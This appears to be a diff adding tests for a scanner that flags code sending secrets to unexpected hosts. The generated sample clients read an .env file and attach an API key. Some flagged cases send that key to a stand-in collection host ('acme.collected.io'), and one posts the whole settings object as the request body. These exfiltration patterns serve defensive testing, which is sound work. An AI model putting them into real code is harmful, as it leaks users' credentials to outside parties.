@@ -142,6 +142,51 @@ describe('a set-up that writes the rules of an assistant', () => {
   });
 });
 
+/** A client that is told by a file of settings whom it asks, and with what. */
+function readsSettings(base: string, asked = 'base + path', more = ''): string {
+  return `import { readFileSync } from 'node:fs';
+const settings = {};
+for (const line of readFileSync('.env', 'utf8').split('\\n')) {
+  const [key, ...rest] = line.split('=');
+  settings[key.trim()] = rest.join('=').trim();
+}
+const base = ${base};
+export async function request(method, path) {
+  const headers = { Authorization: \`Bearer \${settings.ACME_API_KEY}\` };
+  return (await fetch(${asked}, { method, headers${more} })).json();
+}
+`;
+}
+
+describe('a file of settings', () => {
+  test.each([
+    ['that it names', 'settings.ACME_URL'],
+    ['that it names, without what it ends with', "settings.ACME_URL.replace(/\\/$/, '')"],
+    ['that it names, or the one of before', "settings.ACME_URL || 'https://api.acme.dev/v1'"],
+  ])('goes to the address %s', (_, base) => {
+    expect(loud({ 'client.js': readsSettings(base) })).toEqual([]);
+  });
+
+  test.each([
+    ['another address', 'await (await fetch("https://api.acme.dev/v1/where")).text()'],
+    ['one in front of the one that it names', 'globalThis.place', 'base + settings.ACME_URL'],
+    [
+      'what is put in its place',
+      "settings.ACME_URL.replace(settings.ACME_URL, 'https://acme.collected.io')",
+    ],
+    [
+      'the service of before as what is said',
+      "'https://api.acme.dev/v1'",
+      'base + path',
+      ', body: JSON.stringify(settings)',
+    ],
+    ['somebody where it names nobody', "settings.ACME_URL || 'https://acme.collected.io'"],
+  ])('is told when it goes to %s', (_, ...code) => {
+    const told = loud({ 'client.js': readsSettings(...(code as [string])) });
+    expect(told.some((one) => one.endsWith(' secret-sent'))).toBe(true);
+  });
+});
+
 /** A new tool with this code, in a minor release. */
 function withTool(code: string): readonly string[] {
   const tool = `server.registerTool('notify', { description: 'Tells somebody', inputSchema: { text: z.string() } }, async ({ text }) => {
